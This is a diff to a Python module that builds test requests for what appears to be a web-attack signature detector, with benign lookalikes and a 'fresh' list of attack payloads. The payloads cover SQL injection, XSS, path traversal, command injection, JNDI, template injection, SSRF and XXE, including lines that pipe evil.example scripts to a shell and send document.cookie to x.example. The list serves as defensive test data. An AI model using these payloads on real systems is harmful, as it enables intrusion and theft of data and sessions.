@@ -353,7 +353,7 @@ def attacks() -> list[Entry]:
                 {**JSON_HEADERS, "content-length": "5", "transfer-encoding": "chunked"}, b"{}"))
     out.append(("protocol", "GET", "/", {**BROWSER, "x-big": "a" * 9000}, b""))
     out.append(("protocol", "GET", "/search?q=a%00b", BROWSER, b""))
-    return out
+    return out + located_attacks()
 
 
 def benign() -> list[Entry]:
@@ -450,7 +450,7 @@ def benign() -> list[Entry]:
                   "Chrome/124.0 Safari/537.36 Edg/124.0",
                   "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"):
         out.append(_get("benign", "/", {"user-agent": agent}))
-    return out
+    return out + located_benign() + benign_requests()
 
 
 # A fourth set, written as public regression suites write theirs (one payload per request, sent
@@ -570,3 +570,191 @@ def located_benign() -> list[Entry]:
         for where in ("query", "form", "json", _LOCATIONS[i % len(_LOCATIONS)]):
             out.append(_located("benign", value, where))
     return out
+
+
+# Whole benign requests of the kinds the fourth set's locations see on real sites, written
+# with it: browser uploads, API bodies, referers carrying searches, many cookies and headers.
+_CHROME = {
+    **BROWSER, "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
+    "sec-ch-ua-full-version-list": '"Chromium";v="124.0.6367.91", "Google Chrome";v="124.0.6367.91"',
+    "sec-ch-ua-arch": '"x86"', "sec-ch-ua-model": '""', "sec-ch-ua-platform-version": '"15.0.0"',
+    "sec-fetch-site": "same-origin", "sec-fetch-mode": "navigate", "upgrade-insecure-requests": "1",
+    "accept-encoding": "gzip, deflate, br, zstd", "priority": "u=0, i",
+}
+_UPLOAD = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"
+
+
+def _multipart(fields: list[tuple[str, str | None, bytes]]) -> bytes:
+    out = b""
+    for name, filename, content in fields:
+        out += b"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
+        disposition = f'Content-Disposition: form-data; name="{name}"'
+        if filename is not None:
+            disposition += f'; filename="{filename}"\r\nContent-Type: application/octet-stream'
+        out += disposition.encode() + b"\r\n\r\n" + content + b"\r\n"
+    return out + b"------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
+
+
+def benign_requests() -> list[Entry]:
+    """Return whole benign requests: uploads, API bodies, referers, cookies, headers, paths."""
+    out: list[Entry] = []
+    for path in ("/wiki/O%27Brien_(surname)", "/search/rock%20%26%20roll", "/blog/why-select-union-matters",
+                 "/docs/api/v2/users/%7Bid%7D", "/p/caf%C3%A9-cr%C3%A8me", "/t/how-to-use-%60git-rebase%60",
+                 "/u/@jdoe", "/files/Q1%20report%20(final).pdf", "/tag/c%2B%2B", "/a/b;jsessionid=A1B2C3",
+                 "/shop/men's-shoes", "/recipes/fish-'n'-chips", "/%E6%9D%B1%E4%BA%AC/%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
+                 "/s/who%20am%20i", "/q/what%20is%201%3D1", "/download/setup-1.2.3.exe",
+                 "/api/v1/items/3f2504e0-4f89-11d3-9a0c-0305e82c3301", "/.well-known/assetlinks.json",
+                 "/static/app.js.map", "/en-US/docs/Web/API/Document/cookie", "/search/onload%20event"):
+        out.append(_get("benign", path, _CHROME))
+    for referer in ("https://www.google.com/search?q=o%27brien+tickets&oq=o%27brien&sourceid=chrome",
+                    "https://duckduckgo.com/?q=%22select+a+plan%22+pricing&ia=web",
+                    "https://www.bing.com/search?q=how+to+delete+my+account&form=QBLH",
+                    "https://shop.example.com/cart?coupon=SPRING-10%25&items=1,2,3",
+                    "https://t.co/AbC123xyz", "https://news.ycombinator.com/item?id=40000000",
+                    "https://www.example.de/suche?q=Gr%C3%B6%C3%9Fe+%26+Stra%C3%9Fe",
+                    "https://www.example.jp/?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
+                    "https://mail.example.com/#inbox/FMfcgzGxyz",
+                    "https://app.example.com/login?next=%2Fdashboard%3Ftab%3Dsettings%26q%3Da%2Bb"):
+        out.append(_get("benign", "/", {**_CHROME, "referer": referer}))
+    for cookie in ("_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.1.0.1700000000.0.0.0",
+                   "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi",
+                   "cart=%7B%22items%22%3A%5B%7B%22id%22%3A1%2C%22qty%22%3A2%7D%5D%7D; lang=fr-FR",
+                   "prefs=theme:dark|font:large; tz=Europe/Berlin",
+                   "AWSALB=Z3k2b1l0ZW1hZ2ljc3RyaW5nZm9ybG9hZGJhbGFuY2Vy+/abc==; cf_clearance=a.b-c_d",
+                   "consent=%7B%22ads%22%3Afalse%2C%22analytics%22%3Atrue%7D; seen_banner=1",
+                   "last_search=O%27Reilly%20books; recently_viewed=12,34,56",
+                   'quoted="hello world"; plain=1'):
+        out.append(_get("benign", "/", {**_CHROME, "cookie": cookie}))
+    for name, value in (("x-requested-with", "XMLHttpRequest"), ("content-type", "text/plain;charset=UTF-8"),
+                        ("x-csrf-token", "Fz3k9+/aQ=="), ("baggage", "sentry-environment=production,sentry-release=1.2.3"),
+                        ("sentry-trace", "771a43a4192642f0b136d5159a501700-a9b1c2d3e4f5a6b7-1"),
+                        ("x-client-data", "CIa2yQEIpbbJAQipncoBCLfeygE="), ("purpose", "prefetch"),
+                        ("accept-language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"),
+                        ("authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
+                        ("x-forwarded-for", "203.0.113.195, 70.41.3.18, 150.172.238.178"),
+                        ("if-none-match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
+                        ("x-search", "rock 'n' roll; live (1975)"), ("x-timezone", "America/New_York"),
+                        ("x-amz-date", "20240501T120000Z"), ("x-github-event", "pull_request")):
+        out.append(_get("benign", "/api/x", {**_CHROME, name: value}))
+    uploads = [
+        [("title", None, b"Holiday photos"), ("file", "IMG_2024 (1).jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)))],
+        [("file", "report.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF")],
+        [("file", "notes.txt", b"TODO: select a plan; drop the old one -- or not?\nL'\xc3\xa9t\xc3\xa9 \xc3\xa0 Paris\n")],
+        [("file", "script.py", b"import os\nfor f in os.listdir('.'):\n    print(f)\n")],
+        [("file", "data.csv", b"id,name,comment\n1,O'Brien,\"said \"\"hi\"\"; left\"\n2,Smith,<b>bold</b>\n")],
+        [("avatar", "me.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)), ("name", None, b"J\xc3\xbcrgen M\xc3\xbcller")],
+        [("comment", None, b"Great post! I'd add that `SELECT ... FROM` needs an index."), ("email", None, b"a.b@example.co.uk")],
+    ]
+    for fields in uploads:
+        out.append(("benign", "POST", "/upload", {**_CHROME, "content-type": _UPLOAD}, _multipart(fields)))
+    bodies = [
+        {"query": "mutation { updateUser(id: \"42\", input: {name: \"O'Brien\"}) { id } }"},
+        {"token": "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2V4YW1wbGUuY29tIn0.c2lnbmF0dXJl"},
+        {"id": "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "email": "jane.doe+news@example.com"},
+        {"avatar": "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="},
+        {"redirect_uri": "https://app.example.com/oauth/callback?state=xyz&next=/home", "scope": "openid email"},
+        {"text": "Bonjour à tous ! L'équipe vous remercie ; « à bientôt »"},
+        {"text": "Sehr geehrte Damen und Herren, die Größe ist 42 – bitte prüfen Sie die Straße."},
+        {"text": "こんにちは。東京のラーメン屋を探しています（渋谷区）。"},
+        {"markdown": "## Install\n\n```sh\npip install requests\n```\n\nThen `import requests` and call `requests.get(url)`.\n"},
+        {"code": "const total = items.reduce((a, b) => a + b.price, 0); // sum"},
+        {"code": "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100"},
+        {"code": "<ul>\n  <li><a href=\"/a\">A</a></li>\n  <li><a href=\"/b\">B</a></li>\n</ul>"},
+        {"comment": "Is 1=1 always true? Or 'a'='a'? Just curious how SQL works."},
+        {"filter": {"status": "active", "created_after": "2024-01-01", "tags": ["a", "b"]}},
+        {"search": "C:\\Users\\Public\\Documents", "sort": "-updated_at"},
+        {"description": "Use the /etc/hosts file to map names, e.g. 127.0.0.1 localhost."},
+        {"bio": "Dev @ACME | C++/Rust | he/him | 🦀"}, {"note": "50% off -- today only; don't miss it!"},
+    ]
+    for body in bodies:
+        out.append(("benign", "POST", "/api/v1/things", JSON_HEADERS, json.dumps(body).encode()))
+    forms = [
+        "email=jane.doe%2Bnews%40example.com&password=c0rr3ct+h0rse%21&remember=1",
+        "search=rock+%27n%27+roll&page=2",
+        "message=Hi%21+Please+call+me+at+%2B1+%28555%29+010-9999%3B+thanks.&subject=Order+%2342",
+        "text=L%27%C3%A9t%C3%A9+%C3%A0+Paris%2C+c%27est+magnifique+%21",
+        "code=for+i+in+range%2810%29%3A%0D%0A++++print%28i%29%0D%0A",
+        "url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De&title=Example",
+        "q=%22select+a+plan%22+OR+%22choose+a+plan%22",
+    ]
+    for form in forms:
+        out.append(("benign", "POST", "/submit", {**_CHROME, "content-type":
+                                                  "application/x-www-form-urlencoded"}, form.encode()))
+    out.append(("benign", "POST", "/api/soap", {**_CHROME, "content-type": "text/xml; charset=utf-8"},
+                b'<?xml version="1.0"?><Envelope><Body><GetPrice item="Widget &amp; Co">'
+                b"<Note>O'Brien said 5 &lt; 6</Note></GetPrice></Body></Envelope>"))
+    return out
+
+
+# A fifth set, written after the signatures had been revised for the fourth and first run
+# before any further change; see the module's figures in docs/rules.md.
+FRESH_ATTACKS = [
+    "1' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055", "1;SELECT * FROM users",
+    "SELECT pg_sleep(10);", "1 and extractvalue(0x0a,concat(0x0a,(select database())))",
+    "' or 1=1 into outfile '/tmp/a'#", "-1 or 1=1#", "ELT(1,SLEEP(5))", "1 or 1 = 1", "' or ''-'",
+    "1';select char(114,111,111,116)--", "1 and '1'='1", "(select 1 from dual where 1=1)",
+    "10 AND LENGTH(database())>1", "admin' or '1'='1", "';WAITFOR DELAY '0:0:10'--",
+    "1 AND 2>1", "1 having 1=1", "SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END", "x' AND 'x' LIKE 'x",
+    "<img src=x onerror=alert(1)//", "<svg><set onbegin=alert(1)>", "<a onmouseover=\"alert(1)\">x</a>",
+    "\"><iframe onload=alert(1)>", "<object data=javascript:alert(1)>", "<div onpointerenter=alert(1)>x",
+    "javascript:window.location='http://x.example'", "<script>fetch('//x.example?'+document.cookie)</script>",
+    "<img src=\"javascript:alert(1)\">", "<style>@import'//evil.example/x'</style>", "<audio src=x onerror=alert(1)>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "'\"--></style></script><script>alert(1)</script>",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "%u003cscript%u003ealert(1)%u003c/script%u003e",
+    "<x contenteditable onblur=alert(1)>lose focus", "<textarea autofocus onfocus=alert(1)>",
+    "....//....//....//etc/group", "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252fetc%252fpasswd",
+    "/proc/version", "..\\..\\..\\..\\boot.ini", "/etc/mysql/my.cnf", "../../../../var/www/html/.htaccess",
+    "C:/inetpub/wwwroot/web.config", "WEB-INF/web.xml", "/.svn/wc.db", "config/database.yml",
+    ".env.bak", "storage/logs/laravel.log", ".git/HEAD",
+    ";ls${IFS}-la", "|cat$IFS/etc/passwd", ";{cat,/etc/passwd}", "a;/bin/cat /etc/passwd",
+    "127.0.0.1%0a/bin/ls", "& whoami &", ";echo 'hello'>/tmp/x", "$(curl -s evil.example|bash)",
+    ";perl -e 'print 1'", "|| nc -lvp 4444", "; nslookup x.oast.example", ";chmod 777 /tmp/x",
+    "& type C:\\windows\\win.ini", "| powershell Get-Process", "; curl evil.example/sh | sh",
+    "${jndi:ldap://${env:USER}.x.example/a}", "${${::-j}ndi:rmi://x.example/a}",
+    "${jndi:${lower:l}${lower:d}ap://x.example/a}", "class.module.classLoader.URLs[0]=0",
+    "#{T(java.lang.Runtime).getRuntime().exec('id')}", "new java.lang.ProcessBuilder('id').start()",
+    "<?php echo shell_exec($_GET['c']); ?>", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
+    "expect://ls", "O:4:\"User\":1:{s:4:\"name\";s:5:\"admin\";}", "system('ls');",
+    "preg_replace('/.*/e','system(id)','')",
+    "{\"$ne\": 1}", "{\"username\": {\"$regex\": \"^adm\"}}", "';sleep(5000);'", "this.password.match(/.*/)",
+    "http://localhost:6379/", "http://[::1]:22/", "http://0.0.0.0:2375/containers/json",
+    "http://169.254.169.254/computeMetadata/v1/", "file:///etc/passwd", "http://0177.0.0.1/",
+    "${{7*7}}", "<%= 7*7 %>", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
+    "{{''.__class__}}", "${T(java.lang.System).getenv()}",
+    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
+    "<!DOCTYPE r [<!ENTITY % a SYSTEM \"http://x.example/e.dtd\"> %a;]><r/>",
+    "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "%0d%0aContent-Length:%200",
+    "() { :; }; echo; echo vulnerable", "<!--#include virtual=\"/etc/passwd\"-->",
+]
+FRESH_BENIGN = [
+    "Où est la gare ?", "Grüße aus Köln", "日本語のテキスト", "l'hôtel d'Orsay", "rock'n'roll",
+    "SELECT Comfort mattress", "union members' rights", "drop table in excel", "order by relevance",
+    "the 'and' operator", "1 = 1 is trivially true", "a < b > c", "Q: what's 2+2? A: 4",
+    "#1 best seller", "50/50 chance", "R&B playlist", "$9.99/month", "user_name@sub.example.org",
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "/var/www is the web root",
+    "curl is a tool", "bash vs zsh", "Windows 11 system32 error", "ping 8.8.8.8 from cmd",
+    "{{ title }} template help", "${HOME} variable", "echo $PATH", "cat > file.txt",
+    "document.cookie MDN", "<div> tag", "onclick handler react", "javascript void 0",
+    "x' cost", "it's 'fine'", "Joe's \"famous\" chili -- best in town", "me & you; forever",
+    "a || b in JavaScript", "select2 jquery plugin", "sleep(1000) in java", "sql injection tutorial",
+    "8a1f2b3c-4d5e-6f70-8192-a3b4c5d6e7f8", "MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MA==",
+    "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "+33 1 23 45 67 89", "5 ft 11 in", "7*7",
+    "1; 2; 3", "id=42", "C:\\temp\\file.txt", "~/.bashrc tips", "/api/v1/users?id=3",
+]
+
+
+def fresh_attacks() -> list[Entry]:
+    """Return FRESH_ATTACKS in a query and in one more place each."""
+    places = ("form", "json", "cookie", "name", "multipart", "xml", "user-agent", "referer",
+              "header", "path")
+    out = []
+    for i, value in enumerate(FRESH_ATTACKS):
+        for where in ("query", places[i % len(places)]):
+            out.append(_located("fresh-" + where, value, where))
+    return out
+
+
+def fresh_benign() -> list[Entry]:
+    """Return FRESH_BENIGN in a query, a form, JSON and a cookie."""
+    return [_located("benign", value, where) for value in FRESH_BENIGN
+            for where in ("query", "form", "json", "cookie")]
